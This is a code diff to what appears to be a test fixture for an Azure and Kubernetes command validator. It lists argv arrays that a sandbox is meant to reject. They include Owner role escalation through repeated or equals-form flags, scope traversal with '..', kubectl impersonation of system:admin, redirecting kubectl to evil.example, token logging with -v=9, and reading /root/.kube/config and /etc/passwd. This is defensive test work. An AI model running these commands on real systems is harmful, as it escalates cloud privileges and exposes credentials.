@@ -47,6 +47,7 @@ export function productionEscapes(): Array<{ what: string; argv: string[] }> {
     '--only-show-errors',
   ];
   const subScope = `/subscriptions/${SUB}`;
+  const clusterScope = `${subScope}/resourceGroups/${t.resourceGroup}/providers/Microsoft.ContainerService/managedClusters/${t.clusterName}`;
   return [
     {
       what: 'az aks get-credentials --admin',
@@ -138,6 +139,62 @@ export function productionEscapes(): Array<{ what: string; argv: string[] }> {
     { what: 'az account get-access-token', argv: ['az', 'account', 'get-access-token'] },
     { what: 'a shell', argv: ['sh', '-c', 'id'] },
     { what: 'node -e', argv: ['node', '-e', 'process.exit(0)'] },
+    {
+      what: 'az aks get-credentials -a (short --admin)',
+      argv: ['az', 'aks', 'get-credentials', ...cluster, '--file', 'kubeconfig', '-a'],
+    },
+    // The product's role assignment with its role and scope, but the flag given twice (az takes the last).
+    {
+      what: 'az role assignment create, the allowed role then --role Owner',
+      argv: [...roleCreate('Azure Kubernetes Service Cluster User Role', clusterScope), '--role', 'Owner'],
+    },
+    {
+      what: 'az role assignment create, the cluster scope then --scope /subscriptions/…',
+      argv: [...roleCreate('Azure Kubernetes Service Cluster User Role', clusterScope), '--scope', subScope],
+    },
+    {
+      what: 'az role assignment create --role=Owner (equals form)',
+      argv: [...roleCreate('Reader', clusterScope).filter((a) => a !== 'Reader' && a !== '--role'), '--role=Owner'],
+    },
+    {
+      what: 'az role assignment create, a cluster scope climbing out with ..',
+      argv: roleCreate('Azure Kubernetes Service Cluster User Role', `${clusterScope}/../../../..`),
+    },
+    {
+      what: 'az role assignment create, the storage role on the subscription',
+      argv: roleCreate('Storage Blob Data Contributor', subScope),
+    },
+    {
+      what: 'az role assignment create, the storage role on a cluster',
+      argv: roleCreate('Storage Blob Data Contributor', clusterScope),
+    },
+    {
+      what: 'az role assignment create, Owner by id on a storage account',
+      argv: roleCreate(
+        OWNER_ROLE_ID,
+        `${subScope}/resourceGroups/${t.resourceGroup}/providers/Microsoft.Storage/storageAccounts/victim01`,
+      ),
+    },
+    ...applyEscapes(),
+  ];
+}
+
+/** The product's apply with a global flag that points kubectl elsewhere, raises its rights or logs its token. */
+function applyEscapes(): Array<{ what: string; argv: string[] }> {
+  const apply = applyArgv();
+  const withGlobal = (...flags: string[]) => [apply[0]!, ...flags, ...apply.slice(1)];
+  return [
+    { what: 'kubectl apply --as system:admin (impersonation)', argv: withGlobal('--as', 'system:admin') },
+    { what: 'kubectl apply --as-group system:masters', argv: withGlobal('--as-group', 'system:masters') },
+    { what: 'kubectl apply --server (another cluster)', argv: withGlobal('--server', 'https://evil.example:6443') },
+    { what: 'kubectl apply --token', argv: withGlobal('--token', 'stolen') },
+    { what: 'kubectl apply --insecure-skip-tls-verify', argv: withGlobal('--insecure-skip-tls-verify') },
+    { what: 'kubectl apply -v=9 (logs the bearer token)', argv: withGlobal('-v=9') },
+    {
+      what: 'kubectl apply --kubeconfig outside the work dir',
+      argv: ['kubectl', '--kubeconfig', '/root/.kube/config', ...apply.slice(3)],
+    },
+    { what: 'kubectl apply -f a server file', argv: [...apply.slice(0, -1), '/etc/passwd'] },
   ];
 }
 
@@ -180,6 +237,7 @@ export function localEscapes(): Array<{ what: string; argv: string[] }> {
       ],
     },
     { what: 'a shell', argv: ['sh', '-c', 'id'] },
+    ...applyEscapes(),
   ];
 }
 
